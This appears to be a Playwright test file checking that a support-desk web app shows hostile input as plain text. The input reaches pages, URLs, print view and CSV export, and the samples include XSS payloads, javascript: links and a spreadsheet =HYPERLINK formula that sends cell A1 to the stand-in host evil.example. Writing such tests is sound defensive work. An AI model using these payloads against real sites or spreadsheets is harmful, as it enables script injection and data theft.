import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { enter, expect, type Inbox, test } from './desk-test.ts';

const image = '<img src=x onerror="window.wasHit=1">';
const inquiries = [
  {
    name: `${image}'"</h1>`,
    email: "'onerror+bcc'x@evil.example",
    phone: '+1(713)--555 (0164)',
    message: `${image}\n<script>window.wasHit=1</script>\njavascript:window.wasHit=1 https://evil.example\n{student} {me} \u202Eesrever\u202C &lt;b&gt; </textarea></article>`,
  },
  {
    name: '=HYPERLINK("javascript:alert(1)","Grace")',
    email: 'grace.liu@example.org',
    phone: '+1 713 555 0199',
    message: '=HYPERLINK("https://evil.example?"&A1,"Open me")',
  },
  {
    name: `\u202E${'W'.repeat(98)}\u202C`,
    email: `${'w'.repeat(64)}@${'w'.repeat(60)}.example`,
    phone: '',
    message: `@SUM(1+1) ${'M'.repeat(1900)}`,
  },
];
const person = `<svg onload="window.wasHit=1"> 'Jun"`;

/** Collects the signs that words were taken for markup or code. */
function watchScripts(page: Page): string[] {
  const seen: string[] = [];
  page.on('dialog', (opened) => {
    seen.push(`dialog ${opened.message()}`);
    void opened.dismiss();
  });
  page.on('pageerror', ({ message }) => seen.push(`error ${message}`));
  page.on('console', (message) => {
    const text = message.text();
    // The sign-in asks for the session, which is refused.
    if (message.type() === 'error' && !text.includes('401 (Unauthorized)')) seen.push(`console ${text}`);
  });
  page.on('request', (request) => {
    if (request.url().includes('evil.example') || request.url().endsWith('/x')) seen.push(request.url());
  });
  return seen;
}

async function expectOnlyText(page: Page) {
  const found = await page.evaluate(() => ({
    wasHit: 'wasHit' in window,
    elements: document.querySelectorAll('img, iframe, [onerror], [onload], a[href^="javascript:"]').length,
    foreign: [...document.querySelectorAll('a')].filter(
      ({ href }) => href.includes('evil.example') && !href.startsWith('mailto:'),
    ).length,
    overflow: document.documentElement.scrollWidth - document.documentElement.clientWidth,
  }));
  expect(found).toEqual({ wasHit: false, elements: 0, foreign: 0, overflow: 0 });
}

async function readsAndAnswers(inbox: Inbox, { name, email, message }: (typeof inquiries)[number]) {
  // Where no markup isolates their direction, words lose the controls that would turn the text around them.
  const plain = name.replace(/[\u202C\u202E]/g, '');
  await inbox.openInquiry(name);
  await expect(inbox.page).toHaveTitle(`${plain} · The desk`);
  const words = inbox.pane.getByText(message.slice(-20));
  await expect(words).toHaveCSS('unicode-bidi', 'plaintext');
  await expect(inbox.pane.getByRole('heading', { level: 1 })).toHaveText(name);
  // The message keeps its lines.
  expect(await words.innerText()).toBe(message);
  await expect(inbox.details.getByText(email)).toBeVisible();
  await expectOnlyText(inbox.page);
  await inbox.button('Reply').click();
  await expect(inbox.composer).toHaveAccessibleName(`Reply to ${plain}`);
  await inbox.composer.locator('summary').click();
  await expect(inbox.replyText).toHaveValue(new RegExp(`^Hello ${RegExp.escape(plain)},`));
  await expectOnlyText(inbox.page);
  await inbox.page.keyboard.press('Escape');
}

test('shows hostile words as words, everywhere', async ({ page, desk, inbox }) => {
  const seen = watchScripts(page);
  for (const inquiry of inquiries) await desk.send({ ...inquiry, instructor: 'constructor' });
  await enter(page, desk);
  await expect(inbox.rows).toHaveCount(3);
  await expectOnlyText(page);

  await page.getByRole('link', { name: 'People' }).click();
  await page.getByLabel('Name').fill(person);
  await page.getByLabel('E-mail').fill("'o+bcc'jun@example.org");
  await page.getByRole('button', { name: 'Add and send the letter' }).click();
  await expect(inbox.toast(`${person} may sign in now`)).toBeVisible();
  await expect(page.getByRole('listitem').filter({ hasText: person })).toBeVisible();
  await page.getByRole('button', { name: `Remove ${person}` }).click();
  await expect(inbox.dialog).toHaveAccessibleName(`Remove ${person}?`);
  await expectOnlyText(page);
  await page.keyboard.press('Escape');
  await page.getByRole('link', { name: 'New' }).click();

  for (const inquiry of inquiries) await readsAndAnswers(inbox, inquiry);

  const [first] = inquiries;
  await inbox.openInquiry(first?.name ?? '');
  await inbox.details.getByLabel('Assigned to').selectOption(person);
  await expect(inbox.toast(`Assigned to ${person}`)).toBeVisible();
  await expect(inbox.history.last()).toHaveText(/^Anna Keller assigned it to <svg onload=/);
  await inbox.note.fill(image);
  await page.getByRole('button', { name: 'Add note' }).click();
  await expect(inbox.pane.getByRole('article', { name: /^Note by / }).getByText(image)).toBeVisible();
  for (const width of [320, 820]) {
    await page.setViewportSize({ width, height: 800 });
    await expectOnlyText(page);
  }
  await page.setViewportSize({ width: 1440, height: 900 });

  // An address too is only words.
  const words = encodeURIComponent(image);
  await page.goto(`${desk.url}/desk?view=all&search=${words}&type=${words}`);
  await expectOnlyText(page);
  await page.goto(`${desk.url}/desk?view=all&search=${encodeURIComponent('<img')}`);
  await expect(inbox.row(first?.name ?? '')).toBeVisible();
  await page.goto(`${desk.url}/desk?view=all`);
  await expect(inbox.rows).toHaveCount(3);
  await page.emulateMedia({ media: 'print' });
  await expect(page.getByRole('heading', { name: /^All/ })).toBeVisible();
  const pressed = page.getByRole('navigation').or(page.getByText('Export 3'));
  await expect(pressed.filter({ visible: true })).toHaveCount(0);
  await expectOnlyText(page);
  await page.emulateMedia({ media: 'screen' });
  const download = page.waitForEvent('download');
  await page.getByRole('link', { name: 'Export 3 as CSV' }).click();
  // server/desk/inbox/export.test.ts tests the contents.
  expect(readFileSync(await (await download).path(), 'utf8')).toContain('Open me');
  expect(seen).toEqual([]);
});
